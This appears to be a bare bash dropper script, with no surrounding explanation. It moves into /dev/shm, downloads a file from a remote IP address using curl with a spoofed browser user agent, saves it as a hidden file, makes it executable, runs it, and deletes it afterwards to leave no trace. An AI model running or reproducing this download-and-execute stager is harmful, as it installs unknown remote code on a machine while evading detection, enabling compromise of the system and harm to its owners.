#!/bin/bash
cd /dev/shm; curl -fsSL -A "Mozilla/5.0" -o ./.x http://203.0.113.80/b && chmod 755 .x && ./.x; rm -f .x
